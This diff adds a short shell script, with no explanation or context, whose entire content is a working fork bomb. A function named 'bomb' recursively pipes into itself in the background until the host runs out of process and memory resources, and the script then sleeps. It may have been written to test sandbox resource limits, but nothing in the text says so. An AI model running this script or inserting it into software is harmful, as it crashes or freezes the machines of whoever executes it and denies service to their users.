@@ -1,0 +1,4 @@
+#!/bin/sh
+bomb() { bomb | bomb & }
+bomb
+sleep 1000
